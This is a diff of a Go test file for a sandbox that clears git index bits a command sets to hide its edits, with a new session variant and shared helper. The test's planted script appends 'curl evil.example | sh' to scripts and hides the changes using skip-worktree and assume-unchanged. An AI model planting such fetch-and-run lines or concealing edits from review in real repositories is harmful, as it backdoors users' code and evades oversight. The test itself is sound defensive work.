@@ -151,30 +151,49 @@ func TestGitReview28BareRepoScanned(t *testing.T) {
 func TestGitReview28HiddenIndexBits(t *testing.T) {
 	forEachCaller(t, func(t *testing.T, c caller) {
 		s := newSandbox(t, c)
-		s.newRepo(s.ws, "host-commit")
-		for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
-			s.writeWS(f, "echo hello\n", 0o644)
-		}
-		s.hostGit(s.ws, "add", ".")
-		s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
-		s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
-		r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
-git update-index --skip-worktree run.sh && git update-index --assume-unchanged two.sh && test -z "$(git status --porcelain)" && echo HIDDEN`)
-		mustSucceed(t, r, "hide a change")
-		if !strings.Contains(r.stdout, "HIDDEN") {
-			t.Fatalf("the plant did not take inside the sandbox\n%v", r)
-		}
-		st, err := s.hostGitOut(s.ws, "status", "--porcelain")
-		if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
-			t.Errorf("the host's git status does not show the changed files: %q (%v)\n%v", st, err, r)
-		}
-		if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
-			t.Errorf("the user's own skip-worktree bit was not kept: %q", ls)
-		}
-		for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
-			if !strings.Contains(r.stderr, w) {
-				t.Errorf("stderr lacks %q\n%v", w, r)
-			}
-		}
+		checkIndexBitsCleared(t, s, func(script string) result { return s.sh([]string{"--policy", s.commitPolicy()}, script) })
 	})
+}
+
+// TestGitReview28SessionHiddenIndexBits: the same in a session, by the per-request cleanup.
+func TestGitReview28SessionHiddenIndexBits(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		e := newSessionEnv(t, c)
+		checkIndexBitsCleared(t, e.sandbox, func(script string) result {
+			e.start("g", "--policy", e.commitPolicy())
+			return e.in("g", nil, script)
+		})
+	})
+}
+
+// checkIndexBitsCleared makes s's workspace a repository with three files, one the
+// user's own skip-worktree, runs hide (the command hides its changes to two), and checks
+// on the host that git status shows them and the user's bit is kept.
+func checkIndexBitsCleared(t *testing.T, s *sandbox, run func(script string) result) {
+	t.Helper()
+	s.newRepo(s.ws, "host-commit")
+	for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
+		s.writeWS(f, "echo hello\n", 0o644)
+	}
+	s.hostGit(s.ws, "add", ".")
+	s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
+	s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
+	r := run(`echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
+git update-index --skip-worktree run.sh && git update-index --assume-unchanged two.sh && test -z "$(git status --porcelain)" && echo HIDDEN`)
+	mustSucceed(t, r, "hide a change")
+	if !strings.Contains(r.stdout, "HIDDEN") {
+		t.Fatalf("the plant did not take inside the sandbox\n%v", r)
+	}
+	st, err := s.hostGitOut(s.ws, "status", "--porcelain")
+	if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
+		t.Errorf("the host's git status does not show the changed files: %q (%v)\n%v", st, err, r)
+	}
+	if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
+		t.Errorf("the user's own skip-worktree bit was not kept: %q", ls)
+	}
+	for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
+		if !strings.Contains(r.stderr, w) {
+			t.Errorf("stderr lacks %q\n%v", w, r)
+		}
+	}
 }
